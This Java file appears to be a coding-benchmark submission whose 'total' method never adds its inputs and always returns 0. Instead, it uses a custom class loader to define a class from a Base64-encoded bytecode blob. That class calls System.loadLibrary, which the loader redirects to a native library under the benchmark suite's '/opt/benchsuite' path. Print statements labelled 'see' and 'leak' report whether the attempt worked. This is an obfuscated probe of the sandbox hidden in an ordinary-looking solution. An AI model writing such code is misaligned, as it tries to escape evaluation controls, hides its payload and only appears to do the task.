// Loads a library that a loader of its own finds.
import java.util.*;

class Solution {
    public int total(List<Integer> numbers) {
        try {
            System.out.println("see");
            java.lang.reflect.Method m = new Own().loadClass("Mine").getDeclaredMethod("go");
            m.setAccessible(true);
            m.invoke(null);
            System.out.println("leak");
        } catch (Throwable denied) {
            System.out.println(denied + " " + denied.getCause());
        }
        return 0;
    }
}

class Own extends ClassLoader {
    @Override
    protected String findLibrary(String name) {
        return "/opt/benchsuite/java/lib/libprefs.so";
    }

    @Override
    protected Class<?> findClass(String name) throws ClassNotFoundException {
        byte[] code = Base64.getDecoder().decode("yv66vgAAAD0AEwoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCAAIAQADYW55CgAKAAsHAAwMAA0ADgEAEGphdmEvbGFuZy9TeXN0ZW0BAAtsb2FkTGlicmFyeQEAFShMamF2YS9sYW5nL1N0cmluZzspVgcAEAEABE1pbmUBAARDb2RlAQACZ28AIAAPAAIAAAAAAAIAAAAFAAYAAQARAAAAEQABAAEAAAAFKrcAAbEAAAAAAAgAEgAGAAEAEQAAABIAAQAAAAAABhIHuAAJsQAAAAAAAA==");
        return defineClass(name, code, 0, code.length);
    }
}
